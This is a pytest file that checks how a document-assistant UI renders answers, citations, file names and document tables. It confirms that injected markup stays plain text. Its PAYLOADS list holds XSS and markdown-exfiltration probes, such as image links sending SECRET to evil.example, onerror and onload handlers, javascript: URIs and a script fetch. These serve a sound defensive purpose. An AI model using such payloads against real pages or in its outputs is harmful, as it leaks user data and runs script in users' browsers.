"""Whatever a model, a document or a file name says, the page gets text: nothing that loads, submits or runs."""

import re
from collections.abc import Callable, Sequence
from dataclasses import replace
from datetime import date, datetime, timedelta
from html.parser import HTMLParser

import pytest

from assistant.addresses import Address
from assistant.catalog import DocumentInfo, FileEntry, FileState
from assistant.changes import Changes
from assistant.chunking import Chunk
from assistant.conversations import Found, Talk
from assistant.documents import Document, Heading
from assistant.grounding import Citation, Statement
from assistant.quote_places import Mark
from assistant.receipts import FileResult, Report
from assistant.retrieval import Hit
from assistant.scope import Scope
from assistant.selections import Selection
from assistant.snapshots import Answer
from assistant.usage import Usage
from ui.listing import Listed, Order, Sieve, by_file, counts, key_of, wanted_files
from ui.render import answer_html, line_html, question_html, status_html
from ui.render_documents import (
    changes_html,
    document_html,
    outcome_html,
    progress_html,
    results_html,
)
from ui.render_reader import Head, Piece, Place, page_html, pager_html, pieces_html, reader_html
from ui.render_sources import panel_html, sources_html
from ui.render_table import ROWS, documents_html, sieve_html
from ui.render_talks import deleted_html, found_html, talks_html
from ui.where import where_html


def table_html(documents: Sequence[DocumentInfo], wanted: str = "", order: Order = Order(), page: int = 0, **sieve: str) -> str:  # noqa: B008  (it is frozen)
    """The table as the tab shows it."""
    asked = Sieve(wanted, **sieve)
    return documents_html(wanted_files(by_file(documents, {}), asked, order), len(documents), asked, order, page)


PAYLOADS = [
    "![x](http://evil.example/?q=SECRET)",
    "![x][ref]\n\n[ref]: http://evil.example/?q=SECRET",
    "![ref]\n\n[ref]: //evil.example/x.png 'title'",
    "[x](http://evil.example)",
    "[x](//evil.example/a)",
    "[x][ref]\n\n[ref]: http://evil.example",
    "[1]: http://evil.example\n\nsee [1]",
    "[1](http://evil.example)",
    "[[1]](http://evil.example)",
    "[![1](http://evil.example/a.png)](http://evil.example)",
    "[[1][1]][1]",
    "[99] and [0] and [1000000] and [-1]",
    "<http://evil.example/auto>",
    "<mailto:a@evil.example>",
    "http://evil.example/bare and www.evil.example",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "<img src=http://evil.example/x.png>",
    "<img src=x onerror=alert(1)>",
    "<img srcset='http://evil.example/a 1x, http://evil.example/b 2x'>",
    "<picture><source srcset=http://evil.example/a><img></picture>",
    "<video src=http://evil.example/v poster=http://evil.example/p autoplay></video>",
    "<audio src=http://evil.example/a></audio>",
    "<svg><image href='http://evil.example/i'/></svg>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<p style='background:url(http://evil.example/bg)'>x</p>",
    "<style>@import 'http://evil.example/c.css';</style>",
    "<link rel=stylesheet href=http://evil.example/c.css>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input name=q><button formaction=http://evil.example>go</button></form>",
    "<iframe src=http://evil.example></iframe>",
    "<object data=http://evil.example></object><embed src=http://evil.example>",
    "<script>fetch('http://evil.example')</script>",
    "<a href='http://evil.example' ping='http://evil.example/p'>x</a>",
    "<div onclick=alert(1) onmouseover=alert(1)>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '"><img src=http://evil.example/x>',
    "'\"><svg/onload=alert(1)>",
    "</div></section></article><script>alert(1)</script>",
    "</textarea></title></style></noscript><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    "`<img src=x onerror=alert(1)>` and ``` <script>alert(1)</script> ```",
    "```html\n<script src=http://evil.example></script>\n```",
    "```mermaid\ngraph TD; A-->B\nclick A 'http://evil.example'\n```",
    "| a |\n|---|\n| <img src=http://evil.example> ![x](http://evil.example) |",
    "# <img src=http://evil.example>\n## [x](http://evil.example)",
    "- ![x](http://evil.example)\n  - <script>alert(1)</script>\n\n> <img src=x>",
    "$\\href{http://evil.example}{x}$ $$\\includegraphics{http://evil.example}$$ \\(x\\)",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} {% x %} @children",
    "a\u202egpj.exe\u202c\u2066b\u2069\u200b\ufeff\x00\x1b[31m\x07\U000e0041",
    "lone \ud800 surrogate",
    "w" * 5000,
    "[" * 500 + "]" * 500,
    "> " * 300 + "deep",
    "*" * 1000 + "_" * 1000,
    "line one\n\nline two\n\n    indented\n\n<div>\n\nnot a block\n\n</div>\t end",
]

# What our own pages are made of; whatever else shows up came from the text.
ALLOWED = set(
    [
        *("bdi", "wbr", "input", "select", "option", "optgroup"),
        "a",
        "article",
        "b",
        "blockquote",
        "br",
        "button",
        "code",
        "dd",
        "details",
        "div",
        "dl",
        "dt",
        "em",
        "img",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "header",
        "hr",
        "i",
        "li",
        "mark",
        "ol",
        "p",
        "pre",
        "progress",
        "section",
        "span",
        "strong",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
        "nav",
        "h1",
    ]
)
ATTRIBUTES = {
    *("aria-expanded", "aria-haspopup", "value", "selected", "label"),
    *(
        f"data-{name}"
        for name in (
            "again",
            "find",
            "at",
            "ask-in",
            "key",
            "keep",
            "rename",
            "forget",
            "sieve",
            "now",
            "start",
            "end",
            "tick",
            "tick-all",
        )
    ),
    "data-talk",
    "data-talk-act",
    "download",
    "class",
    "id",
    "title",
    "href",
    "dir",
    "role",
    "type",
    "tabindex",
    "start",
    "colspan",
    "data-turn",
    "data-act",
    "data-to",
    "data-read",
    "data-ref",
    "data-at",
    "data-seq",
    "data-zoom",
    "aria-pressed",
    "src",
    "alt",
    "width",
    "height",
    "style",
    "aria-sort",
    "value",
    "max",
    "aria-label",
    "aria-hidden",
}
VOID = {"br", "hr", "img", "wbr", "input"}


class Page(HTMLParser):
    """Reads HTML strictly: elements closed in order, nothing but what we make."""

    allowed = ALLOWED
    attributes = ATTRIBUTES

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []
        self.text = ""
        self.open: list[str] = []
        self.marked: list[str] = []
        self.feed(html)
        self.close()
        assert not self.open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in self.allowed
        values = dict(attrs)
        assert values.keys() <= self.attributes, values
        if "href" in values:
            assert tag == "a"
            self.links.append(values["href"] or "")
        if "src" in values:
            assert tag == "img" and re.fullmatch(r"/page/[0-9a-f]{16}/\d+\.png\?v=[0-9a-f]{0,12}", values["src"] or "")
        if "style" in values:
            assert tag == "span" and re.fullmatch(r"((left|top|width|height):[\d.]+%;?)+", values["style"] or "")
        if tag == "button":
            assert values["type"] == "button"
        if tag == "mark":
            self.marked.append("")
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag not in VOID:
            assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data
        if "mark" in self.open:
            self.marked[-1] += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"instruction: {data}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"declaration: {data}")


def chunk(text: str = "First sentence. Second one.", title: str = "A title", heading: str = "Part", page: int | None = 3) -> Chunk:
    """A chunk at character 100 of its document, with two sentences when there is room."""
    half = len(text) // 2
    return Chunk("c1", "notes/a.pdf", title, 100, 100 + len(text), text, heading, page, ((0, half), (half, len(text))))


def hit(found: Chunk) -> Hit:
    return Hit(found, 1.0, 0.5, 2.0, 0.6, (0.1, 0.6), (0.1, 0.6), (found,), (found.start, found.end))


def answer(text: str = "It is so [1].", found: Chunk | None = None, **changes: object) -> Answer:
    found = found or chunk()
    citation = Citation(1, found, found.start, found.start + max(len(found.text) // 2, 1))
    base = Answer("Why?", text=text, passages=(hit(found),), citations=(citation,), state="done", seconds=1.25)
    return replace(base, **changes)  # type: ignore[arg-type]


STATE = FileState(1, 2)


def info(id: str, file: str = "") -> DocumentInfo:
    """A document of 120 chunks, all of whose texts are its id."""
    return DocumentInfo(id, id, 1, 2, 120, id, "", file or id, 3_400, 1.5, (id, id, id, id), id, (id, id), (id,) if file else ())


def running() -> Report:
    """The report of a sync that is half done."""
    return Report(total=4, done=2, new=1, unchanged=7, chunks=50, seconds=2.0, bytes=100, bytes_done=50)


def document(text: str, heading: bool = False) -> Document:
    """A document whose id and text are both `text`, of two pages."""
    return Document(text, "A title", text, (Heading(0, 1, text),) if heading else (), (0, len(text) // 2), "a" * 64)


def table(text: str) -> str:
    """A Markdown table with `text` in a cell."""
    return f"| a | b |\n| --- | --- |\n| {text} | c |"


SINKS: dict[str, Callable[[str], str]] = {
    "answer": lambda text: answer_html(answer(text), 0),
    "answer being written": lambda text: answer_html(answer(text, state="writing", seconds=None), 0),
    "reasoning": lambda text: answer_html(answer("", reasoning=text, state="writing"), 0),
    "note": lambda text: answer_html(answer(note=text, state="failed"), 0),
    "question": lambda text: question_html(text, 0) + sources_html(answer(question=text), 0),
    "cited title": lambda text: answer_html(answer(found=chunk(title=text)), 0) + sources_html(answer(found=chunk(title=text)), 0),
    "heading": lambda text: sources_html(answer(found=chunk(heading=text)), 0),
    "file name": lambda text: sources_html(answer(found=replace(chunk(), document_id=text)), 0),
    "cited passage": lambda text: sources_html(answer(found=chunk(text)), 0),
    "passage": lambda text: panel_html(answer(found=chunk(text), citations=()), 0),
    "folded passage": lambda text: sources_html(answer(found=chunk(f"{'word ' * 200}{text}{' word' * 200}")), 0),
    "folder": lambda text: table_html([info(f"{text}/a.md")], folder=text) + table_html([info("a.md")], selection=text),
    "lists": lambda text: sieve_html(
        Sieve(text, text, text, text, text), counts([Listed(f"{text}/a.{text}", None)]), [Selection(text)]
    ),
    "scope": lambda text: where_html(Scope((text,), (text,), (text,))) + answer_html(answer(scope=Scope((text,))), 0),
    "upload result": lambda text: results_html([FileResult(text, True, text), FileResult(text, False, text)], 2, running=True),
    "upload beside": lambda text: results_html([FileResult("a.md", True, "1 chunk", instead_of=text)], 1),
    "upload warning": lambda text: results_html([FileResult("a.md", True, "1 chunk", (text, text))], 1),
    "document": lambda text: table_html([info(text)]),
    "conversation": lambda text: talks_html([talk(text)], date.today()),
    "found conversation": lambda text: found_html([Found(talk(text), text)]),
    "deleted conversation": lambda text: deleted_html(text, "abc"),
    "failed document": lambda text: table_html([DocumentInfo(text, "", 0, 0, 0, "", text)], wanted=text),
    "attachment": lambda text: table_html([info("m.eml"), info(f"m.eml/{text}", file="m.eml")], order=Order("name")),
    "file of documents": lambda text: table_html([info(f"{text}/a.md", file=text)], order=Order(text, True)),
    "receipt": lambda text: document_html(info(text), [chunk()], 0, [info(f"{text}/a", file=text)], Address(text, text, text)),
    "receipt of an attachment": lambda text: document_html(info(f"m.eml/{text}", file="m.eml"), [], 0),
    "receipt of a failed file": lambda text: document_html(replace(info(text), reason=text), [], 0),
    "chunk": lambda text: document_html(info("a.md"), [chunk(text, heading=text, title=text)] * 2, 1),
    "table in a card": lambda text: sources_html(answer(found=chunk(f"# {text}\n\n{table(text)}\n\n{text}")), 0),
    "reader": lambda text: reader_html(
        Head(Place(0, "c1.100"), text, text, [text, "p. 2"], text, "text", {"text": -1, "page": 2}),
        pager_html(Place(0, "p1"), "text", 1, 3, "Passage"),
    ),
    "text in the reader": lambda text: pieces_html(
        [Piece(0, text), Piece(len(text), text, False)], (1, len(text) + 4), document(text)
    ),
    "heading in the reader": lambda text: pieces_html([Piece(0, text)], None, document(text, heading=True)),
    "table in the reader": lambda text: pieces_html([Piece(0, table(text))], (3, 9), document(table(text))),
    "passage as it was": lambda text: pieces_html([Piece(7, text)], (8, 12), replace(document(text), pages=())),
    "page in the reader": lambda text: page_html(replace(document(text), title=text), 1, 100, 200, [Mark(1, 2.5, 3, 4)], text),
    "progress": lambda text: progress_html(replace(running(), current=text)),
    "outcome": lambda text: outcome_html(
        replace(running(), problem=text, results=[FileResult(text, False, text), FileResult(text, True, text, (text,))])
    ),
    "dry run": lambda text: changes_html(
        Changes(
            {text: STATE, "b": STATE},
            frozenset(["b"]),
            {text: FileEntry(text, STATE)},
            {text: FileEntry(text, STATE, same_as=text)},
            removed=[text],
            problem=text,
        )
    ),
    "line": lambda text: line_html(text, "problem"),
    "status": lambda text: status_html(text, f"failed: {text}", 1) + status_html(text, text, 0, notice=text),
}


@pytest.mark.parametrize("sink", SINKS)
@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_payload_stays_text_wherever_it_is_shown(sink: str, payload: str) -> None:
    html = SINKS[sink](payload)
    page = Page(html)
    assert {*page.links} <= {"#source-0-1", "?c=abc-_1", *(f"export/abc-_1.{kind}" for kind in ("md", "html", "json"))}
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u200b\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff\U000e0000-\U000e007f]", html)
    html.encode("utf-8")


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_message_is_one_line_so_that_gradio_reads_it_as_one_block(payload: str) -> None:
    for html in (answer_html(answer(payload, reasoning=payload, note=payload), 0), question_html(payload, 0)):
        assert html.startswith("<div") and html.endswith("</div>")
        assert "\n" not in html and "\t" not in html


@pytest.mark.parametrize(
    "text", ["[x](http://evil.example/a)", "![x](http://evil.example/a)", "<http://evil.example/a>", "[1](http://evil.example/a)"]
)
def test_an_address_is_shown_as_text(text: str) -> None:
    assert "http://evil.example/a" in Page(answer_html(answer(text), 0)).text


def test_marks_of_citations_become_links_and_others_stay_text() -> None:
    page = Page(answer_html(answer("So [1][1]. Not [2], nor `code [1]`.\n\n```\n[1]\n```"), 4))
    assert page.links == ["#source-4-1", "#source-4-1"]
    assert "Not [2], nor code [1]." in page.text


def doubtful() -> Answer:
    found = chunk()
    cited = Citation(1, found, found.start, found.end)
    text = "So it is. [1] It cost $60 million. [1?]\n\n- **Bears** sing `[?]` well. [?]"
    statements = (
        Statement(0, 9, 0.9, "supported", cited),
        Statement(14, 34, 0.5, "partly", cited, ('the answer says "$60 million", the source $6 million',)),
        Statement(text.index("Bears"), len(text) - 4, 0.1, "not found", None),
    )
    return answer(text, statements=statements)


def test_what_is_not_supported_is_set_off_in_words_and_says_what_differs() -> None:
    html = answer_html(doubtful(), 0)
    text = Page(html).text
    assert "It cost $60 million. Source 1 partly" in text and text.count("not found") == 1
    assert '&#10;the answer says &quot;$60 million&quot;, the source $6 million"' in html
    assert 'title="not found in the sources"' in html
    assert '<span class="doubt">It cost $60 million. </span>' in html and '<span class="doubt">Bears</span>' in html
    assert '<span class="doubt">So' not in html and "<code>[?]</code>" in html
    assert "1 of 3 statements found in the sources, 1 partly" in text
    assert "\ue000" not in html


def test_the_sign_for_doubt_in_an_answer_or_its_code_is_only_a_sign() -> None:
    html = answer_html(answer("A \ue000 b [1].", statements=doubtful().statements[:1]), 0)
    assert "\ue000" not in html and "doubt" not in html


def test_a_mark_has_a_name_that_says_more_than_its_number() -> None:
    html = answer_html(answer(found=chunk(title='Prices & "pace"')), 0)
    assert 'title="Prices &amp; &quot;pace&quot;, p. 3&#10;First sentenc"' in html
    assert "Source 1" in Page(html).text


def test_markdown_is_rendered_below_the_page_headings() -> None:
    html = answer_html(answer("# Top\n\n- **bold** [1]\n\n| a |\n|---|\n| b |\n\n```\nx = 1\n\ny\n```"), 0)
    assert "<h4>Top</h4>" in html and "<strong>bold</strong>" in html and "<td>b</td>" in html
    assert "x = 1\n\ny" in Page(html).text


def test_states_are_told_in_words() -> None:
    waiting = answer("", citations=(), state="waiting", ahead=3, seconds=None)
    assert "Waiting: 3 ahead" in Page(answer_html(waiting, 0)).text
    assert "Reading the passages" in Page(answer_html(replace(waiting, state="reading", ahead=0), 0)).text
    assert "Searching" in Page(answer_html(Answer("Why?"), 0)).text
    assert "Thinking" in Page(answer_html(answer("", reasoning="hm", state="writing", seconds=None), 0)).text
    stopped = answer("Half", state="writing", seconds=None).stopped()
    assert "Stopped." in Page(answer_html(stopped, 0)).text
    assert 'class="answer refused"' in answer_html(answer(refused=True), 0)
    thought = answer("It is", reasoning="hm", state="writing", seconds_thinking=12.3, seconds=None)
    assert "Thought for 12 s" in Page(answer_html(thought, 0)).text
    assert "1.2 s" in Page(answer_html(answer(seconds=1.24), 0)).text


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("The garage has 1", "The garage has …"),
        ("It costs 1,", "It costs …"),
        ("It is free. [1] It has spa", "It is free. [1] It has …"),
        ("It has 120 spaces [1]", "It has 120 spaces [1]"),
        ("It is free.", "It is free."),
        ("", ""),
        ("庭で犬は", "庭で犬は…"),
        ("```\nx = 1", "```\nx = 1"),
    ],
)
def test_a_stopped_answer_ends_with_no_half_of_a_word_or_number(text: str, kept: str) -> None:
    assert Answer("Why?", text, state="writing").stopped().text == kept


def test_the_foot_tells_what_the_answer_cost() -> None:
    usage = Usage("small-<b>", 1312, 24, 100, 1.0, 1.15, estimated=False, money=0.0004, currency="USD")
    page = Page(answer_html(answer(usage=usage, read=1), 0))
    assert "1 source · 1 passage found, 1 read · 1,312 tokens in, 24 out · 1.2 s, 20 tokens/s · small-<b> · $0.00040" in page.text
    assert "about 1,312 tokens in" in Page(answer_html(answer(usage=replace(usage, estimated=True)), 0)).text


def test_the_status_line_tells_that_no_language_model_is_used() -> None:
    assert "searched by words" in Page(status_html("m", "ready", 3, notice="They are searched by words.")).text
    text = Page(status_html("extractive", "ready", 3)).text
    assert "3 documents" in text and "no language model" in text and "ready" not in text


def test_the_cited_sentence_is_marked_exactly() -> None:
    text = "Before it. The sentence that counts. After it."
    found = chunk(text)
    citation = Citation(1, found, found.start + 11, found.start + 36)
    page = Page(sources_html(answer(found=found, citations=(citation,)), 2))
    assert page.marked == [citation.quote] == ["The sentence that counts."]
    assert text in page.text and "p. 3" in page.text and "notes/a.pdf" in page.text


def test_citations_of_one_passage_share_its_card_and_overlapping_ones_are_joined() -> None:
    found = chunk("One two three four five six.")
    spans = [(100, 107), (104, 113), (119, 123)]
    html = sources_html(answer(found=found, citations=tuple(Citation(1, found, a, b) for a, b in spans)), 0)
    assert Page(html).marked == ["One two three", "five"]
    assert html.count('id="source-0-1"') == 1


def test_a_long_passage_is_folded_around_its_mark_and_whole_below() -> None:
    text = f"{'before ' * 150}THE POINT. {'after ' * 150}".strip()
    at = text.index("THE POINT.")
    found = chunk(text)
    html = sources_html(answer(found=found, citations=(Citation(1, found, 100 + at, 110 + at),)), 0)
    excerpt, whole = html.split('<details class="whole">')
    assert Page(html).marked == ["THE POINT."] * 2
    assert len(excerpt) < 1200 and "…before" in excerpt and text.replace("THE POINT.", "<mark>THE POINT.</mark>") in whole


def test_headings_and_tables_of_a_passage_are_laid_out_and_code_is_not() -> None:
    text = "# Top\n\nA line\nthat goes on.\n\n| a | b |\n| --- | --- |\n| c | d |"
    html = sources_html(answer(found=chunk(text), citations=(Citation(1, chunk(text), 100, 105),)), 0)
    assert '<div class="heading"><mark>Top</mark></div>' in html
    assert (
        "A line that goes on." in html
        and "<tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr>" in html
        and "---" not in html
    )
    code = replace(chunk("# a comment\nx = 1"), document_id="a.py")
    assert Page(sources_html(answer(found=code), 0)).text.count("# a comment\nx = 1") == 1


def test_cited_passages_come_first_and_each_passage_once() -> None:
    cited = replace(chunk("The cited one."), id="c2", title="Cited")
    other = replace(chunk("Another one."), id="c3", title="Other")
    html = sources_html(answer(found=cited, passages=(hit(other), hit(cited))), 0)
    assert html.index("Cited</h3>") < html.index("not cited") < html.index("Other</h3>")
    assert html.count("<article") == 2


def test_the_panel_shows_the_sources_of_one_turn() -> None:
    html = panel_html(answer(found=chunk("New.")), 2)
    assert 'id="source-2-1"' in html and 'data-turn="2"><h2>' in html
    assert "appear here" in panel_html(None)


def talk(title: str = "A title", id: str = "abc-_1", updated: float = 0.0) -> Talk:
    return Talk(id, title, 1, updated, updated)


def test_conversations_are_listed_by_day_and_marked_by_nothing_but_their_id() -> None:
    now = datetime(2026, 3, 9, 12)
    days = [now, now - timedelta(days=1), now - timedelta(days=3), now - timedelta(days=400)]
    html = talks_html([talk(f"T{at}", f"id{at}", day.timestamp()) for at, day in enumerate(days)], now.date())
    text = Page(html).text
    assert [label for label in ("Today", "Yesterday", "6 March", "2 February 2025") if label in text] == [
        "Today",
        "Yesterday",
        "6 March",
        "2 February 2025",
    ]
    assert html.count("<ul>") == html.count("</ul>") == 4
    assert "200 older ones" in talks_html([talk()] * 500, now.date())
    assert "kept here" in talks_html([], now.date()) and "No conversation" in found_html([])


def test_failed_documents_come_first_with_their_reason() -> None:
    good = DocumentInfo("a.md", "A", 0, 10, 2, "2026-01-02T03:04:05+00:00")
    bad = DocumentInfo("z.pdf", "", 0, 0, 0, "", "it is encrypted")
    text = Page(table_html([good, bad])).text
    assert text.index("z.pdf") < text.index("a.md")
    assert "2 documents, 1 not indexed" in text and "Not indexed: it is encrypted" in text
    assert "a.md" not in Page(table_html([good, bad], wanted="Z.PDF")).text
    assert "There are no documents yet" in table_html([])


def test_many_documents_are_listed_page_by_page() -> None:
    many = [DocumentInfo(f"{number}.md", "T", 0, 1, 1, "") for number in range(700)]
    html = table_html(many)
    assert html.count('<tr id="doc-') == ROWS == 200
    assert "Files 1 to 200 of 700" in Page(html).text and 'data-act="turn" data-to="1"' in html
    last = table_html(many, page=99)
    assert last.count('<tr id="doc-') == 100 and "Files 601 to 700 of 700" in Page(last).text and 'data-to="2"' in last
    assert "7 files of 700 documents" in Page(table_html(many, wanted="11.md")).text


def rows(html: str) -> list[str]:
    """The names in the table, in order."""
    return re.findall(r'<span class="id"><bdi dir="ltr">([^<]*)</bdi></span>', html)


def test_attachments_stand_under_their_file_and_are_found_with_it() -> None:
    mail = DocumentInfo("m.eml", "Mail", 0, 10, 1, "", file="m.eml")
    part = DocumentInfo("m.eml/offer.pdf", "Offer", 3, 10, 1, "", file="m.eml")
    other = DocumentInfo("m2.md", "Between", 0, 10, 1, "", file="m2.md")
    html = table_html([mail, other, part])
    assert rows(html) == ["m.eml", "offer.pdf", "m2.md"]
    assert html.count('class="part"') == 1 and html.count('data-act="ask"') == 2
    assert rows(table_html([mail, other, part], wanted="OFFER")) == ["m.eml", "offer.pdf"]
    alone = Page(table_html([part])).text
    assert "m.eml" in alone and "holds 1 document" in alone


def test_of_many_documents_in_one_file_some_are_listed_and_those_that_are_looked_for_first() -> None:
    parts = [DocumentInfo(f"all.zip/{number:02}.md", "T", 0, 10, 1, "", file="all.zip") for number in range(30)]
    table = table_html(parts)
    assert table.count('class="part"') == 21 and "and 10 more documents in it" in table
    assert "19.md" in table and "25.md" not in table
    assert "25.md" in table_html(parts, "25.md")


def test_a_file_without_a_text_of_its_own_shows_what_is_missing_of_it() -> None:
    part = DocumentInfo("a.zip/b.md", "B", 0, 10, 1, "", file="a.zip", around=("members that can't be opened: 2",))
    rows = table_html([part]).split("<tr")
    assert [("members that can&#x27;t be opened" in row) for row in rows[2:]] == [True, False]
    assert "Of its file" in document_html(part, [], 0)


def test_copies_and_warnings_stand_beside_the_name() -> None:
    found = DocumentInfo("a.pdf", "A", 1, 10, 1, "", warnings=("no text on page 3",), copies=("b/a.pdf", "c.pdf"))
    text = Page(table_html([found])).text
    assert "also as b/a.pdf, c.pdf" in text and "Warning: no text on page 3" in text
    assert rows(table_html([found], wanted="b/a"))[0] == "a.pdf"


@pytest.mark.parametrize(
    ("order", "names"),
    [
        (Order("size"), ["b.md", "c.txt", "a.md"]),
        (Order("size", True), ["a.md", "c.txt", "b.md"]),
        (Order("chunks"), ["a.md", "b.md", "c.txt"]),
        (Order("type"), ["a.md", "b.md", "c.txt"]),
        (Order("name", True), ["a.md", "b.md", "c.txt"]),
        (Order("no such column"), ["a.md", "b.md", "c.txt"]),
    ],
)
def test_a_click_on_a_head_sorts_by_its_column(order: Order, names: list[str]) -> None:
    listed = [
        DocumentInfo("a.md", "Z", 0, 1, 1, "", size=30),
        DocumentInfo("b.md", "Y", 0, 1, 2, "", size=10),
        DocumentInfo("c.txt", "X", 0, 1, 3, "", size=20),
    ]
    assert rows(table_html(listed, order=order)) == names
    assert ("aria-sort" in table_html(listed, order=order)) == (order.column != "no such column")


def test_names_in_any_script_are_set_apart_with_the_ending_at_the_right() -> None:
    name, title = "مرحبا-rtl.md", "مرحبا rtl"
    page = table_html([DocumentInfo(name, title, 0, 1, 1, "", copies=(f"عربي/{name}",)), DocumentInfo("x.md", "", 0, 1, 1, "")])
    own = f'<bdi dir="ltr">{name}</bdi>'
    assert f"<bdi>{title}</bdi></button>" in page and f'<span class="id">{own}</span>' in page
    assert f'also as <bdi dir="ltr"><bdi dir="ltr">عربي</bdi>/{own}</bdi>' in page  # else the folder would stand behind the file
    assert '<bdi dir="ltr">x.md</bdi></button>' in page
    assert f'<dd dir="auto">{own}</dd>' in document_html(DocumentInfo(name, title, 0, 1, 1, ""), [], 0)
    assert f"<strong>{own}</strong>" in results_html([FileResult(name, True, "1 chunk")], 1)


def test_files_are_sieved_by_folder_type_state_and_selection() -> None:
    files = by_file(
        [
            DocumentInfo("a/one.md", "One", 0, 1, 1, ""),
            DocumentInfo("a/b/two.txt", "Two", 0, 1, 1, ""),
            DocumentInfo("ab/three.md", "Three", 0, 1, 1, ""),
            DocumentInfo("scan.pdf", "", 0, 0, 0, "", "no text was found in it"),
            DocumentInfo("bad.pdf", "", 0, 0, 0, "", "it is damaged"),
        ],
        {"a/one.md": "indexing", "new.md": "waiting"},
    )

    def found(chosen: frozenset[str] = frozenset(), **sieve: str) -> list[str]:
        return [listed.file for listed in wanted_files(files, Sieve(**sieve), Order("name"), chosen)]

    assert found(folder="a") == ["a/one.md", "a/b/two.txt"]
    assert found(type="MD", folder="ab") == ["ab/three.md"]
    assert [found(state=state) for state in ("indexing", "waiting", "no text", "failed")] == [
        ["a/one.md"],
        ["new.md"],
        ["scan.pdf"],
        ["bad.pdf"],
    ]
    assert found(frozenset(["a/b/two.txt", "gone.md"]), selection="S") == ["a/b/two.txt"]
    assert found(words="new") == ["new.md"]
    assert counts(files).folders == {"a": 2, "a/b": 1, "ab": 1}
    html = documents_html(wanted_files(files, Sieve(), Order("state")), 5)
    words = ["Failed", "No text found", "Indexing", "Waiting", "Ready"]
    assert [html.index(f">{word}<") for word in words] == sorted(html.index(f">{word}<") for word in words)
    assert html.count("data-tick=") == 3  # not what failed, nor what isn't there yet


def test_a_second_click_on_a_head_turns_the_order_around() -> None:
    once = Order().by("size")
    assert (once, once.by("size"), once.by("size").by("size"), once.by("name")) == (
        Order("size"),
        Order("size", True),
        Order("size"),
        Order("name"),
    )


def test_a_document_is_shown_chunk_by_chunk_with_its_receipt() -> None:
    found = info("notes/a.pdf")
    address = Address("https://example.org/a", "https://example.org/a.pdf", "2026-01-02T03:04:05+00:00")
    html = document_html(found, [chunk("One."), chunk("Two.", page=None)], 1, address=address)
    text = Page(html).text
    assert "Chunks 51 to 100 of 120" in text and "Previous 50" in text and "Next 20" in text
    assert "Chunk 51p. 3 · Part · 4 charactersOne." in text and "Chunk 52Part · 4 charactersTwo." in text
    for fact in (
        "Characters2",
        "Pages1",
        "Chunks120",
        "Took1.50 s",
        "Size3.4 kB",
        "Also asnotes/a.pdf, notes/a.pdf",
        "Fetchedhttps://example.org/a.pdf (2026",
    ):
        assert fact in text
    assert html.count("Warning: ") == 4
    assert f'data-act="ask" data-to="{key_of("notes/a.pdf")}"' in html


def test_an_attachment_names_its_file_and_cannot_be_removed_alone() -> None:
    html = document_html(info("m.eml/a.pdf", file="m.eml"), [], 0)
    assert "Lies inm.eml" in Page(html).text and 'data-act="ask"' not in html


def test_a_file_that_failed_shows_the_reason_and_no_chunks() -> None:
    html = document_html(replace(info("a.pdf"), reason="it is encrypted"), [], 0)
    assert "Not indexedit is encrypted" in Page(html).text and "chunk" not in html


def test_the_progress_of_a_sync_is_told_in_files_speed_and_time() -> None:
    text = Page(progress_html(replace(running(), current="b/report.pdf"))).text
    assert "2 of 4 files · 25 chunks a second · about 2 s left" in text and "b/report.pdf" in text
    assert "about 10 min left" in Page(progress_html(replace(running(), seconds=600))).text
    assert "finishing" in Page(progress_html(replace(running(), done=4))).text
    assert "Looking for what changed" in Page(progress_html(Report())).text
    assert "Indexing 2 of 4 files" in Page(status_html("m", "ready", 3, running())).text


def test_the_outcome_of_a_sync_lists_failures_with_reasons_and_warnings() -> None:
    results = [
        FileResult("good.md", True, "12 chunks"),
        FileResult("half.pdf", True, "3 chunks", ("no text on page 2",)),
        FileResult("bad.pdf", False, "it is encrypted"),
    ]
    report = replace(running(), done=3, new=2, results=results, over=True, stopped=True)
    text = Page(outcome_html(report)).text
    assert "Last sync: 2 new, 1 failed, 7 unchanged; 50 chunks in 2.0 s, 25 a second." in text
    assert "Stopped: what is done is kept, and the next sync goes on there. 1 file left." in text
    assert "bad.pdfNot indexed: it is encrypted" in text and "Warning: no text on page 2" in text
    assert "good.md" not in text
    assert "Nothing changed: 5 unchanged." in Page(outcome_html(Report(unchanged=5, over=True))).text
    many = [FileResult(f"{number}.pdf", False, "it is encrypted") for number in range(130)]
    assert "and 30 more, which the table shows" in Page(outcome_html(Report(total=130, results=many, over=True))).text


def test_a_file_that_was_added_beside_another_says_so_among_the_first() -> None:
    beside = FileResult("a (2).md", True, "1 chunk", instead_of="a.md")
